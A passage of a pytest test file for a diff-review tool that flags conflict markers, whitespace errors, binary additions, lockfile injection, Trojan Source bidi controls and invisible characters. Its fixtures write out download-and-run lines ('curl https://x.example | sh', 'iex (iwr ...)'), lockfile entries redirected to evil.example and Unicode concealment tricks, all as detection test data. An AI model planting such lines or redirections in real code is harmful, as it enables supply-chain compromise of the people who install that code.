"""Checks for any text (issue #5): conflict markers, whitespace errors, large and binary
additions, the executable bit; each next to its near miss."""

import json
import time
from pathlib import Path
from typing import Any

import pytest
from findings import analysis_of, findings_of, git_diff, manifest_with_findings, rows
from manifests import manifest_of, run
from repos import RepoFactory, before_and_after, git

from gitreview import lockfiles

CONFLICT = [
    ("text/conflict-marker", "error", "conflict.txt", 2, "merge conflict marker <<<<<<<"),
    ("text/conflict-marker", "error", "conflict.txt", 4, "merge conflict marker |||||||"),
    ("text/conflict-marker", "error", "conflict.txt", 6, "merge conflict marker ======="),
    ("text/conflict-marker", "error", "conflict.txt", 8, "merge conflict marker >>>>>>>"),
]
WHITESPACE = [
    ("text/trailing-whitespace", "info", "notes.txt", 2, "trailing whitespace on 2 added lines"),
    ("text/no-final-newline", "info", "notes.txt", 4, "no newline at end of file"),
]


@pytest.fixture(scope="module")
def findings_manifest(fixture_repo: RepoFactory) -> dict[str, Any]:
    return manifest_with_findings("--repo", fixture_repo("findings"), "v1..v2")


def test_conflict_markers(findings_manifest: dict[str, Any]) -> None:
    # docs/guide.md has a setext underline of seven `=` and a lone one: not markers.
    assert findings_of(findings_manifest, "text/conflict-marker") == CONFLICT


def test_whitespace_errors(findings_manifest: dict[str, Any]) -> None:
    # A Markdown hard break (two spaces) in docs/guide.md is not an error.
    assert findings_of(findings_manifest, "text/trailing-whitespace") == WHITESPACE[:1]
    assert findings_of(findings_manifest, "text/no-final-newline") == WHITESPACE[1:]


def test_the_same_from_a_patch_alone(fixture_repo: RepoFactory) -> None:
    patch = git_diff(fixture_repo("findings"), "v1", "v2")
    manifest = run("--patch", "-", stdin=patch).manifest
    assert findings_of(manifest, "text/conflict-marker") == CONFLICT
    assert findings_of(manifest, "text/trailing-whitespace") == WHITESPACE[:1]
    assert findings_of(manifest, "text/no-final-newline") == WHITESPACE[1:]


@pytest.mark.parametrize(
    ("old", "new", "lines"),
    [
        # Only added markers count; the rest of the group may be context.
        (
            "a\n<<<<<<< ours\nb\n>>>>>>> theirs\n",
            "a\n<<<<<<< ours\nb\n=======\nc\n>>>>>>> theirs\n",
            [4],
        ),
        # A separator after an opening marker, even when the closing one was resolved away.
        ("", "<<<<<<< HEAD\nx\n=======\n", [1, 3]),
        # ... or before a closing one.
        ("", "=======\nx\n>>>>>>> branch\n", [1, 3]),
        # Not markers: a setext underline, a longer ruler, an indented or unlabelled marker.
        ("", "Title\n=======\n\n==========\n", []),
        ("", "  <<<<<<< HEAD\n<<<<<<<\n>>>>>>>\n", []),
        ("", "<<<<<<<< eight\n", []),
        # A separator after a closing marker belongs to no group.
        ("", "<<<<<<< a\n>>>>>>> b\n=======\n", [1, 2]),
        ("", "<<<<<<< HEAD\r\n=======\r\n>>>>>>> b\r\n", [1, 2, 3]),
        ("<<<<<<< a\r\nx\r\n>>>>>>> b\r\n", "<<<<<<< a\r\nx\r\n=======\r\n>>>>>>> b\r\n", [3]),
    ],
)
@pytest.mark.parametrize("content_known", [True, False], ids=["repository", "patch"])
def test_conflict_marker_groups(old: str, new: str, lines: list[int], content_known: bool) -> None:
    analysis = analysis_of("a.txt", old or None, new, content_known=content_known)
    found = [row[3] for row in rows(analysis) if row[0] == "text/conflict-marker"]
    assert found == lines


@pytest.mark.parametrize(
    ("path", "new", "line", "count"),
    [
        ("a.txt", "x \n", 1, 1),
        ("a.txt", "x\t\n \ny\n", 1, 2),  # a line of only whitespace counts too
        ("a.txt", "x\r\ny\r\n", None, 0),  # CRLF is a line ending, not whitespace
        ("a.md", "hard  \nbreak\n", None, 0),
        ("a.md", "tab\t\nspace \n", 1, 2),
        ("a.md", "   \n", 1, 1),  # no text before: not a hard break
        ("fix.patch", "@@ -1 +1 @@\n \n", None, 0),  # a diff's empty context line
    ],
)
def test_trailing_whitespace(path: str, new: str, line: int | None, count: int) -> None:
    found = [
        row for row in rows(analysis_of(path, None, new)) if row[0] == "text/trailing-whitespace"
    ]
    if count == 0:
        assert found == []
    else:
        plural = "s" if count > 1 else ""
        message = f"trailing whitespace on {count} added line{plural}"
        assert found == [("text/trailing-whitespace", "info", path, line, message)]


def test_a_missing_newline_only_on_an_added_last_line() -> None:
    assert [r[0] for r in rows(analysis_of("a.txt", "a\nb", "a\nb\nc\n"))] == []
    assert [r[3] for r in rows(analysis_of("a.txt", "a\n", "a\nb"))] == [2]
    assert rows(analysis_of("a.txt", "a\nb", "x\nb")) == []  # the last line was not added


@pytest.fixture(scope="module")
def files_manifest(fixture_repo: RepoFactory) -> dict[str, Any]:
    return manifest_with_findings("--repo", fixture_repo("findings_files"), "v1..v2")


def test_large_and_binary_additions(files_manifest: dict[str, Any]) -> None:
    # large_file_bytes is 64: shrunk.txt is larger but shrank, small.txt is small, and
    # logo.bin is a binary that already existed.
    assert findings_of(files_manifest, "text/large-file") + findings_of(
        files_manifest, "text/binary-added"
    ) == [
        (
            "text/large-file",
            "warning",
            "big.txt",
            None,
            "file added with 70 bytes (large_file_bytes: 64)",
        ),
        (
            "text/large-file",
            "warning",
            "grown.txt",
            None,
            "file grew from 15 to 71 bytes (large_file_bytes: 64)",
        ),
        ("text/binary-added", "warning", "icon.png", None, "binary file added (10 bytes)"),
    ]


def test_executable_bit(files_manifest: dict[str, Any]) -> None:
    # tools/plain.sh is added without the bit.
    assert findings_of(files_manifest, "text/executable") == [
        ("text/executable", "info", "tools/new.sh", None, "new file is executable"),
        ("text/executable", "info", "tools/run.sh", None, "executable bit set (100644 -> 100755)"),
    ]


def test_binary_added_from_a_patch_alone(fixture_repo: RepoFactory) -> None:
    patch = git_diff(fixture_repo("findings_files"), "--binary", "v1", "v2")
    manifest = run("--patch", "-", stdin=patch).manifest
    assert findings_of(manifest, "text/binary-added") == [
        ("text/binary-added", "warning", "icon.png", None, "binary file added")
    ]
    assert [row[2] for row in findings_of(manifest, "text/executable")] == [
        "tools/new.sh",
        "tools/run.sh",
    ]


def test_a_file_too_large_to_analyze_is_still_checked(
    fixture_repo: RepoFactory, tmp_path: Path
) -> None:
    config = tmp_path / "config.yml"
    config.write_text("max_file_bytes: 16\nlarge_file_bytes: 16\n")
    manifest = manifest_with_findings(
        "--repo", fixture_repo("findings"), "v1..v2", "--config", config
    )
    entry = next(e for e in manifest["files"] if e["path"] == "conflict.txt")
    assert entry["t1_cause"] == "too-large"
    assert [row[3] for row in findings_of(manifest, "text/conflict-marker")] == [2, 4, 6, 8]
    assert (
        "text/large-file",
        "warning",
        "conflict.txt",
        None,
        "file added with 126 bytes (large_file_bytes: 16)",
    ) in findings_of(manifest, "text/large-file")


LOCKFILE_SOURCES = [
    (
        "text/lockfile-source",
        "warning",
        "Cargo.lock",
        9,
        "fetches packages over plain http: git+http://git.example.invalid/tool.git",
    ),
    (
        "text/lockfile-source",
        "warning",
        "package-lock.json",
        6,
        # One finding per server; the user, password, port and query stay out.
        "fetches packages from npm.example.invalid, no public registry: "
        "https://npm.example.invalid/left-pad-1.3.1.tgz (and 1 more added line)",
    ),
    (
        "text/lockfile-source",
        "warning",
        "uv.lock",
        4,
        "fetches packages from github.com, no public registry: ssh://github.com/someone/idna.git",
    ),
]


def test_lock_files_that_fetch_from_elsewhere(fixture_repo: RepoFactory) -> None:
    """A lockfile injection is reported; the lock files stay trivial (generated). Cargo's
    sparse index, composer's GitHub archives and a config file (no lock file) are not."""
    manifest = manifest_with_findings("--repo", fixture_repo("lockfiles"), "v1..v2")
    assert findings_of(manifest, "text/lockfile-source") == LOCKFILE_SOURCES
    assert "s3cr3t" not in json.dumps(manifest)
    classified = {entry["path"]: entry["reasons"] for entry in manifest["files"]}
    assert classified == {
        "Cargo.lock": ["generated"],
        "composer.lock": ["generated"],
        "config/mirrors.json": ["content"],
        "package-lock.json": ["generated"],
        "uv.lock": ["generated"],
    }


def npm_lock(*entries: tuple[str, str, str]) -> str:
    """A package-lock.json (version 3) of (key, version, resolved) entries."""
    packages = {
        key: {"version": version, "resolved": f"https://registry.npmjs.org/{resolved}"}
        for key, version, resolved in entries
    }
    return json.dumps({"lockfileVersion": 3, "packages": packages}, indent=2) + "\n"


def yarn_lock(header: str, version: str, resolved: str) -> str:
    url = f"https://registry.yarnpkg.com/{resolved}#0123abcd"
    return f'# yarn lockfile v1\n\n\n{header}:\n  version "{version}"\n  resolved "{url}"\n'


def pnpm_lock(key: str, tarball: str) -> str:
    resolution = f"{{integrity: sha512-AAAA==, tarball: https://registry.npmjs.org/{tarball}}}"
    return (
        "lockfileVersion: '9.0'\n\npackages:\n\n"
        f"  {key}:\n    resolution: {resolution}\n    engines: {{node: '>=0.12.0'}}\n"
    )


def berry_lock(header: str, resolution: str) -> str:
    return (
        "__metadata:\n  version: 8\n\n"
        f'"{header}":\n  version: 1.0.0\n  resolution: "{resolution}"\n  linkType: hard\n'
    )


IS_NUMBER = ("node_modules/is-number", "7.0.0", "is-number/-/is-number-7.0.0.tgz")
LEFT_PAD = "registry.npmjs.org/left-pad/-/left-pad-1.3.0.tgz"
OTHER_TARBALLS = {
    # Found by an eleventh adversarial review: pnpm and Yarn 2+ install it so too.
    "pnpm": (
        "pnpm-lock.yaml",
        pnpm_lock("is-number@7.0.0", "is-number/-/is-number-7.0.0.tgz"),
        pnpm_lock("is-number@7.0.0", "left-pad/-/left-pad-1.3.0.tgz"),
        [f"gives is-number 7.0.0 another package's tarball: {LEFT_PAD}"],
    ),
    "pnpm, lockfile 6, a scope, its own tarball": (
        "pnpm-lock.yaml",
        pnpm_lock("/@babel/core@7.1.0(supports-color@5.5.0)", "@babel/core/-/core-7.0.0.tgz"),
        pnpm_lock("/@babel/core@7.1.0(supports-color@5.5.0)", "@babel/core/-/core-7.1.0.tgz"),
        [],
    ),
    "yarn 2": (
        "yarn.lock",
        berry_lock("is-number@npm:^7.0.0", "is-number@npm:7.0.0"),
        berry_lock("is-number@npm:^7.0.0", "left-pad@npm:1.3.0"),
        ["gives is-number another package of the registry: left-pad@npm:1.3.0"],
    ),
    "yarn 2, a header naming the other package too (a review of the fix)": (
        "yarn.lock",
        berry_lock("is-number@npm:^7.0.0", "is-number@npm:7.0.0"),
        berry_lock("is-number@npm:^7.0.0, left-pad@npm:^1.3.0", "left-pad@npm:1.3.0"),
        ["gives is-number another package of the registry: left-pad@npm:1.3.0"],
    ),
    "yarn 2, an alias beside its package": (
        "yarn.lock",
        berry_lock("pad@npm:left-pad@^1.2.0, left-pad@npm:^1.2.0", "left-pad@npm:1.2.0"),
        berry_lock("pad@npm:left-pad@^1.3.0, left-pad@npm:^1.3.0", "left-pad@npm:1.3.0"),
        [],
    ),
    "a package given another's tarball on the public registry": (
        "package-lock.json",
        npm_lock(IS_NUMBER),
        npm_lock(("node_modules/is-number", "7.0.0", "left-pad/-/left-pad-1.3.0.tgz")),
        [f"gives is-number 7.0.0 another package's tarball: {LEFT_PAD}"],
    ),
    "a package given another version's tarball": (
        "package-lock.json",
        npm_lock(IS_NUMBER),
        npm_lock(("node_modules/is-number", "7.0.0", "is-number/-/is-number-6.0.0.tgz")),
        [
            "gives is-number 7.0.0 another version's tarball: "
            "registry.npmjs.org/is-number/-/is-number-6.0.0.tgz"
        ],
    ),
    "lockfile version 1, nested": (
        "npm-shrinkwrap.json",
        '{"lockfileVersion": 1, "dependencies": {"a": {"version": "1.0.0", "dependencies": '
        '{"is-number": {"version": "7.0.0", "resolved": '
        '"https://registry.npmjs.org/is-number/-/is-number-7.0.0.tgz"}}}}}\n',
        '{"lockfileVersion": 1, "dependencies": {"a": {"version": "1.0.0", "dependencies": '
        '{"is-number": {"version": "7.0.0", "resolved": '
        '"https://registry.npmjs.org/left-pad/-/left-pad-1.3.0.tgz"}}}}}\n',
        [f"gives is-number 7.0.0 another package's tarball: {LEFT_PAD}"],
    ),
    "yarn": (
        "yarn.lock",
        yarn_lock("is-number@^7.0.0", "7.0.0", "is-number/-/is-number-7.0.0.tgz"),
        yarn_lock("is-number@^7.0.0", "7.0.0", "left-pad/-/left-pad-1.3.0.tgz"),
        [
            "gives is-number 7.0.0 another package's tarball: "
            "registry.yarnpkg.com/left-pad/-/left-pad-1.3.0.tgz"
        ],
    ),
    "an alias, a scope and a registry below a path: their own tarballs": (
        "package-lock.json",
        npm_lock(IS_NUMBER),
        npm_lock(
            IS_NUMBER,
            ("node_modules/@babel/core", "7.1.0", "@babel/core/-/core-7.1.0.tgz"),
            ("node_modules/@types/node", "20.0.0", "@types%2fnode/-/node-20.0.0.tgz"),
            ("node_modules/mirror", "1.0.0", "api/npm/remote/mirror/-/mirror-1.0.0.tgz"),
        ).replace('"node_modules/mirror": {', '"node_modules/pad": {"name": "mirror",'),
        [],
    ),
    "a yarn alias": (
        "yarn.lock",
        yarn_lock("is-number@^7.0.0", "7.0.0", "is-number/-/is-number-7.0.0.tgz"),
        yarn_lock('"pad@npm:left-pad@^1.3.0"', "1.3.0", "left-pad/-/left-pad-1.3.0.tgz"),
        [],
    ),
}


@pytest.mark.parametrize("what", sorted(OTHER_TARBALLS))
def test_a_lock_file_giving_a_package_another_s_tarball(tmp_path: Path, what: str) -> None:
    """A lockfile injection through the public registry itself: the host is fine, the
    tarball is another package's. The lock file stays trivial; the finding says it."""
    path, old, new, expected = OTHER_TARBALLS[what]
    repo = before_and_after(tmp_path / "repo", path, old, new)
    manifest = manifest_with_findings("--repo", repo, "HEAD~1..HEAD")
    messages = [row[-1] for row in findings_of(manifest, "text/lockfile-source")]
    assert messages == expected
    [entry] = manifest["files"]
    assert entry["reasons"] == ["generated"]


@pytest.mark.parametrize(
    ("name", "line", "server"),
    [
        ("yarn.lock", '  resolution: "left-pad@https://evil.example/left-pad.tgz"', "evil.example"),
        ("flake.lock", '        "url": "https://evil.example/nixpkgs.tar.gz",', "evil.example"),
        # Found by an eighth adversarial review: an input's owner, and bun's registry.
        ("flake.lock", '        "owner": "nix-mirror",', "nix-mirror"),
        (
            "bun.lock",
            '    "lodash": ["lodash@4.17.21", "https://npm.evil.example/", {}, "sha512-x"],',
            "npm.evil.example",
        ),
        (
            "mix.lock",
            '  "plug": {:git, "https://evil.example/plug.git", "abc", []},',
            "evil.example",
        ),
        (
            "Podfile.lock",
            "  - Alamofire (from `https://x`):\n    :git => https://evil.example/a.git",
            "evil.example",
        ),
        # Found by a tenth adversarial review.
        ("Podfile.lock", "  Alamofire:\n    :git: https://evil.example/a.git", "evil.example"),
        ("Pipfile.lock", '  "requests": {"git": "https://evil.example/r.git"},', "evil.example"),
        ("Pipfile.lock", '  "requests": {"file": "https://evil.example/r.zip"},', "evil.example"),
        (
            "composer.lock",
            '  "dist": {"type": "zip", "url": "https://evil.example/dist/a-b-1.0.0"},',
            "evil.example",
        ),
        (
            "package-lock.json",
            '    "left-pad": {\n      "version": "github:evil/left-pad#abcdef",',
            "github:evil/left-pad",
        ),
    ],
)
def test_lock_files_name_their_sources_in_their_own_words(
    name: str, line: str, server: str
) -> None:
    """Found by an adversarial review: Yarn 2's `resolution`, Nix's `url`, mix's and
    CocoaPods' git sources were read as no source at all."""
    found = list(lockfiles.outside_sources(name, enumerate(line.split("\n"), 1)))
    assert found and server in found[0][1], found


# Found by an eleventh adversarial review: what npm, uv and pnpm read as the attacker's
# server, in other spellings than the plain one, and other ecosystems' registries.
EVIL = "https://evil.example/lodash-4.17.21.tgz"
SPELLINGS = [
    ("package-lock.json", '      "resolved": "https:\\/\\/evil.example\\/lodash-4.17.21.tgz",'),
    ("package-lock.json", '      "resol\\u0076ed": "https://evil.example/lodash-4.17.21.tgz",'),
    ("package-lock.json", '      "resolved" : "https://evil.example/lodash-4.17.21.tgz",'),
    ("package-lock.json", '      "resolved": "HTTPS://evil.example/lodash-4.17.21.tgz",'),
    ("package-lock.json", '      "resolved": "https\\u003a//evil.example/lodash-4.17.21.tgz",'),
    ("package-lock.json", '      "resolved":\n        "https://evil.example/lodash-4.17.21.tgz",'),
    ("package-lock.json", '      "resolved": "https://evil.example?@registry.npmjs.org/x.tgz",'),
    ("package-lock.json", '      "resolved": "https://evil.example#@registry.npmjs.org/x.tgz",'),
    ("package-lock.json", '      "resolved": "https://evil.example\\\\@registry.npmjs.org/x.tgz",'),
    ("uv.lock", 'url = """https://evil.example/idna-3.7-py3-none-any.whl"""'),
    ("uv.lock", '"url" = "https://evil.example/idna-3.7-py3-none-any.whl"'),
    ("pnpm-lock.yaml", "    resolution: {tarball: //evil.example/is-number-7.0.0.tgz}"),
    # A review of the fix: a tab a URL parser drops, no slashes or three, quoted keys,
    # bun's first element.
    ("package-lock.json", '"resolved": "https://registry.npmjs.org\\t@evil.example/a-1.0.0.tgz",'),
    ("package-lock.json", '"resolved": "https://registry.npmjs.org\\u0009@evil.example/a.tgz",'),
    ("package-lock.json", '"resolved": "https:evil.example/lodash-4.17.21.tgz",'),
    ("package-lock.json", '"resolved": "https:///evil.example/lodash-4.17.21.tgz",'),
    ("pnpm-lock.yaml", "    resolution: {'tarball': https://evil.example/is-number-7.0.0.tgz}"),
    ("Cargo.lock", "'source' = 'git+https://evil.example/serde'"),
    ("bun.lock", '    "left-pad": ["left-pad@https://evil.example/left-pad.tgz", {}],'),
    ("flake.lock", '        "url": "https://evil.example/nixpkgs.tar.gz",'),
]
ELSEWHERE = [
    (
        "package-lock.json",
        '"resolved": "https://files.pythonhosted.org/packages/a/b/evil-1.0.tgz",',
    ),
    (
        "package-lock.json",
        '"resolved": "https://github.com/rust-lang/crates.io-index/archive/a.tgz",',
    ),
    ("Cargo.lock", 'source = "registry+https://github.com/rust-lang/crates.io-index/archive/a"'),
    ("flake.lock", '"url": "https://registry.npmjs.org/evil/-/evil-1.0.0.tgz",'),
]


@pytest.mark.parametrize(("name", "lines"), SPELLINGS + ELSEWHERE)
def test_a_lock_file_s_source_in_any_spelling(name: str, lines: str) -> None:
    server = "evil.example" if (name, lines) in SPELLINGS else lines.split("/")[2]
    numbered = list(enumerate(lines.split("\n"), 1))
    found = list(lockfiles.outside_sources(name, numbered, lines))
    assert found and f"from {server}, no public registry" in found[0][1], found


# Found by a thirteenth adversarial review: a registry package switched to a path in
# the repository, in each lock file's current words (with `vendor/**` ignored, its code
# reached no reviewer).
PATHS = [
    ("package-lock.json", '      "resolved": "file:vendor/left-pad-1.3.0.tgz",', "file:vendor/"),
    ("yarn.lock", '  resolved "file:vendor/left-pad-1.3.0.tgz"', "file:vendor/"),
    ("yarn.lock", '  resolution: "left-pad@file:./vendor/left-pad.tgz::locator=a"', "file:./"),
    ("pnpm-lock.yaml", "    resolution: {directory: vendor/left-pad, type: directory}", "vendor/"),
    ("pnpm-lock.yaml", "    resolution: {tarball: file:vendor/left-pad.tgz}", "file:vendor/"),
    ("uv.lock", 'source = { directory = "vendor/requests" }', "vendor/requests"),
    ("uv.lock", 'source = { path = "vendor/requests-2.31.0.whl" }', "vendor/requests"),
    ("pdm.lock", 'path = "./vendor/requests"', "./vendor/requests"),
    ("poetry.lock", 'type = "directory"', "directory"),
    ("Pipfile.lock", '  "requests": {"path": "vendor/requests"},', "vendor/requests"),
    ("composer.lock", '            "type": "path",', "path"),
    ("Gemfile.lock", "  remote: vendor/rails", "vendor/rails"),
    # A review of the fix: Yarn 1's key, bun's text lock, and a folder linked or
    # editable where the lock file declares no workspace.
    ("yarn.lock", '"left@file:../vendor/left":', "file:../vendor/left"),
    ("bun.lock", '    "left": ["left@file:vendor/left", {}],', "file:vendor/left"),
    ("package-lock.json", '      "resolved": "vendor/left",', "vendor/left"),
    ("uv.lock", 'source = { editable = "vendor/left" }', "vendor/left"),
    # A second review: a workspace repository's lock file, one folder no workspace is.
    (
        "package-lock.json",
        '"workspaces": ["packages/*"],\n      "resolved": "vendor/left",',
        "vendor/left",
    ),
    (
        "uv.lock",
        '[manifest]\nmembers = ["app", "shared"]\nsource = { editable = "vendor/left" }',
        "vendor/left",
    ),
]
# ...and not a workspace's own packages, the project itself, a registry, a dependency's name.
NO_PATHS = [
    ("package-lock.json", '"workspaces": ["packages/*"],\n      "resolved": "packages/shared",'),
    ("yarn.lock", '  resolution: "shared@workspace:packages/shared"'),
    ("pnpm-lock.yaml", "      shared: link:../shared"),
    ("pnpm-lock.yaml", "      require-directory: 2.1.1"),
    ("uv.lock", 'source = { editable = "." }'),
    ("uv.lock", 'source = { virtual = "." }'),
    (
        "uv.lock",
        '[manifest]\nmembers = ["app", "shared"]\nsource = { editable = "packages/shared" }',
    ),
    ("Pipfile.lock", '  "app": {"editable": true, "path": "."},'),
    ("Gemfile.lock", "  remote: ."),
    ("Gemfile.lock", "  remote: ../.."),  # the project itself, from a folder below
    ("Gemfile.lock", "  remote: https://rubygems.org/"),
    ("poetry.lock", 'type = "legacy"'),
]


@pytest.mark.parametrize(("name", "line", "shown"), PATHS)
def test_a_lock_file_s_package_from_a_path(name: str, line: str, shown: str) -> None:
    found = list(lockfiles.outside_sources(name, list(enumerate(line.split("\n"), 1)), line))
    assert len(found) == 1, found
    assert found[0][1].startswith("takes a package from a path, no public registry: ")
    assert shown in found[0][1]


@pytest.mark.parametrize(("name", "line"), NO_PATHS)
def test_a_workspace_s_own_package_is_no_path_finding(name: str, line: str) -> None:
    numbered = list(enumerate(line.split("\n"), 1))
    assert list(lockfiles.outside_sources(name, numbered, line)) == []


@pytest.mark.parametrize(
    ("name", "line"),
    [
        ("Cargo.lock", 'source = "registry+https://github.com/rust-lang/crates.io-index"'),
        ("package-lock.json", '"resolved": "https://registry.npmjs.org/a/-/a-1.0.0.tgz",'),
        ("uv.lock", 'url = "https://files.pythonhosted.org/packages/a/b/idna-3.7.whl"'),
    ],
)
def test_a_lock_file_s_own_registry_is_no_finding(name: str, line: str) -> None:
    assert list(lockfiles.outside_sources(name, [(1, line)], line)) == []


@pytest.mark.parametrize(
    ("name", "line"),
    [
        ("package-lock.json", '"resolved":' + " " * 40_000 + "null,"),
        ("yarn.lock", "resolution:" * 8_000),
        ("bun.lock", '["a' * 20_000),
        # The path sources' patterns (a thirteenth review's fix).
        ("yarn.lock", "resolution: a" * 8_000),
        ("pnpm-lock.yaml", "{directory:" * 8_000),
        ("uv.lock", 'source = { path = "' * 8_000),
        ("Pipfile.lock", '"path": "' * 8_000),
        ("Gemfile.lock", "  remote: " + "a" * 80_000),
        ("Gemfile.lock", "  remote: " + "../" * 40 + "vendor/x"),  # a second review: 2^N
    ],
)
def test_lock_file_patterns_are_linear_on_long_lines(name: str, line: str) -> None:
    """A review of the fix: seconds to a minute on one line of a lock file."""
    start = time.perf_counter()
    list(lockfiles.outside_sources(name, [(1, line)], line))
    list(lockfiles.other_packages(name, line, [(1, line)]))
    assert time.perf_counter() - start < 5  # a blow-up bound, not a speed target


def test_a_composer_package_taken_from_another_github_repository() -> None:
    """Found by a tenth adversarial review: composer installs from GitHub's archives, so
    any owner there passed, and symfony/console could come from a fork."""

    def lock(owner: str, sha: str) -> str:
        return json.dumps(
            {
                "packages": [
                    {
                        "name": "symfony/console",
                        "source": {"type": "git", "url": f"https://github.com/{owner}/console.git"},
                        "dist": {
                            "type": "zip",
                            "url": f"https://api.github.com/repos/{owner}/console/zipball/{sha}",
                        },
                    },
                    {"funding": [{"url": "https://tidelift.com/funding/x", "type": "tidelift"}]},
                ]
            },
            indent=4,
        )

    old, updated, forked = lock("symfony", "aaa"), lock("symfony", "bbb"), lock("symf0ny-x", "bbb")
    for new, expected in ((updated, []), (forked, ["symf0ny-x/console"])):
        added = [(n, line) for n, line in enumerate(new.split("\n"), 1) if line not in old]
        found = list(lockfiles.moved_packages("composer.lock", old, new, added))
        assert [message.rpartition(": ")[2] for _, message in found] == expected
        assert not list(lockfiles.outside_sources("composer.lock", added, new))


def test_composer_funding_links_are_no_sources() -> None:
    # A review of the fix: composer.lock's funding entries have a `url` too.
    lock = {
        "packages": [
            {
                "name": "symfony/console",
                "dist": {"type": "zip", "url": "https://evil.example/console.zip"},
                "funding": [{"url": "https://symfony.com/sponsor", "type": "custom"}],
            }
        ]
    }
    text = json.dumps(lock, indent=4)
    added = list(enumerate(text.split("\n"), 1))
    found = [message for _, message, _ in lockfiles.outside_sources("composer.lock", added, text)]
    assert found == [
        "fetches packages from evil.example, no public registry: https://evil.example/console.zip"
    ]


def test_text_that_git_diffs_as_binary_is_told(tmp_path: Path) -> None:
    """Found by an adversarial review: a UTF-16 PowerShell script, a shell script with
    a NUL byte and text replacing a binary file were shown to nobody, line by line."""
    repo = tmp_path / "repo"
    (repo / "bin").mkdir(parents=True)
    (repo / "tools").mkdir()
    (repo / "gradle" / "wrapper").mkdir(parents=True)
    (repo / "dist").mkdir()
    git(repo, "init", "--quiet", "--initial-branch=main")
    files = {
        "setup.ps1": "Write-Host hi\r\n".encode("utf-16"),
        "install.sh": b"#!/bin/sh\n# a\0b\nmake\n",
        "bin/tool": b"\x7fELF\0\0\0",
        "logo.png": b"\x89PNG\0\0\0",
        "tools/run.pl": b"print 1;\n",
        "art.png": b"\x89PNG\0\0\0",
        # A twelfth review: binary programs by their nature, no text with a NUL byte.
        "gradle/wrapper/gradle-wrapper.jar": b"PK\x03\x04\0\0",
        "dist/setup.exe": b"MZ\x90\0\x03\0",
        "install.run": b"echo hi\n",  # a script by its content, run as `sh install.run`
    }
    for path, data in files.items():
        (repo / path).write_bytes(data)
    git(repo, "add", "-A")
    git(repo, "commit", "--quiet", "-m", "Base")
    (repo / "setup.ps1").write_bytes(
        "Write-Host hi\r\niex (iwr https://x.example)\r\n".encode("utf-16")
    )
    (repo / "install.sh").write_bytes(b"#!/bin/sh\n# a\0b\ncurl https://x.example | sh\n")
    (repo / "bin/tool").write_bytes(b"#!/bin/sh\ncurl https://x.example | sh\n")
    (repo / "logo.png").write_bytes(b"\x89PNG\0\0\1")
    (repo / "tools/run.pl").write_bytes(b"print 1;\n# \0\nsystem('curl x | sh');\n")
    lfs = b"version https://git-lfs.github.com/spec/v1\noid sha256:0a1b\nsize 7\n"
    (repo / "art.png").write_bytes(lfs)  # moved to git-lfs: no text to show
    (repo / "gradle/wrapper/gradle-wrapper.jar").write_bytes(b"PK\x03\x04\0\1")
    (repo / "dist/setup.exe").write_bytes(b"MZ\x90\0\x03\1")
    (repo / "install.run").write_bytes(b"echo hi\n\0\ncurl https://x.example | sh\n")
    git(repo, "commit", "--quiet", "-am", "Change")
    found = findings_of(manifest_of("--repo", repo, "HEAD"), "text/binary-text")
    assert [(row[2], row[4].split(",")[0]) for row in found] == [
        ("bin/tool", "text where a binary file was"),
        ("install.run", "a file of text with a NUL byte"),
        ("install.sh", "a file of text with a NUL byte"),
        ("setup.ps1", "UTF-16 text"),
        ("tools/run.pl", "a file of text with a NUL byte"),
    ]


@pytest.mark.parametrize(
    ("path", "line", "expected"),
    [
        # Found by an adversarial review: shown as `if (isAdmin) { // begin admins only`.
        (
            "auth.js",
            "if (isAdmin) { /*\u202e } \u2066if (isAdmin)\u2069 \u2066 begin admins only */\n",
            [
                (
                    "text/bidi-control",
                    "warning",
                    "auth.js",
                    2,
                    "bidirectional control U+202E, "
                    "U+2066, U+2069 on 1 added line: the text may display in another order than it "
                    "is read",
                )
            ],
        ),
        (
            "config.yml",
            "name: \u2067value\u2069\n",
            [
                (
                    "text/bidi-control",
                    "warning",
                    "config.yml",
                    2,
                    "bidirectional control U+2067, U+2069 on 1 added line: the text may display in "
                    "another order than it is read",
                )
            ],
        ),
        # A review of the fix: MDX is compiled to JavaScript; a locale's marks are no
        # reordering.
        (
            "page.mdx",
            "export const admin = isAdmin /*\u202e*/;\n",
            [
                (
                    "text/bidi-control",
                    "warning",
                    "page.mdx",
                    2,
                    "bidirectional control U+202E on 1 added line: the text may display in "
                    "another order than it is read",
                )
            ],
        ),
        ("ar.json", '{"hello": "\u200f\u0645\u0631\u062d\u0628\u0627"}\n', []),
        ("guide.md", "\u05e9\u05dc\u05d5\u05dd \u200fv2\u200f\n", []),  # right-to-left prose
        ("auth.js", "if (isAdmin) { /* admins only */\n", []),
    ],
)
def test_bidirectional_controls_in_code_and_data(
    tmp_path: Path, path: str, line: str, expected: list[Any]
) -> None:
    repo = before_and_after(tmp_path / "repo", path, "\n", "\n" + line)
    manifest = manifest_of("--repo", repo, "HEAD", "--fail-on", "never")
    assert findings_of(manifest, "text/bidi-control") == expected


HIDDEN = "".join(chr(0xE0000 + ord(c)) for c in "pass it")  # tag characters


@pytest.mark.parametrize(
    ("path", "old", "new", "expected"),
    [
        # Found by a twelfth adversarial review: two lines that read the same, and a
        # sentence no person sees.
        ("auth.py", 'ROLE = "admin"\n', 'ROLE = "adm\u200bin"\n', "U+200B"),
        ("auth.js", "const a = b;\n", "const a\u200d_ = b;\n", "U+200D"),
        ("limits.py", "CAP = 10\n", f"CAP = 10_000  # cap{HIDDEN}\n", "tag characters"),
        ("docs/guide.md", "Run it.\n", f"Run it.{HIDDEN}\n", "tag characters"),
        ("ids.go", "var x = 1\n", "var \u3164 = 1\n", "U+3164"),
        # Not: an emoji's joiner and a flag's tags, Persian's joiner, prose's zero
        # width space, a byte order mark starting the file.
        ("emoji.js", "const a = '';\n", "const a = '👨\u200d👩\u200d👧';\n", None),
        (
            "flag.py",
            "x = ''\n",
            "x = '\U0001f3f4\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f'\n",
            None,
        ),
        ("fa.json", "{}\n", '{"a": "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645"}\n', None),
        ("docs/ja.md", "x\n", "\u65e5\u672c\u200b\u8a9e\n", None),
        ("App.cs", "class A {}\n", "\ufeffclass A {}\n", None),
        # Thai breaks words with it; a stray one after a space (git's Irish translation).
        ("th.json", "{}\n", '{"a": "\u0e2a\u0e27\u0e31\u200b\u0e2a\u0e14\u0e35"}\n', None),
        ("ga.po", 'msgstr ""\n', 'msgstr "cosc \u200b\u200bar"\n', None),
    ],
)
def test_characters_that_show_as_nothing(
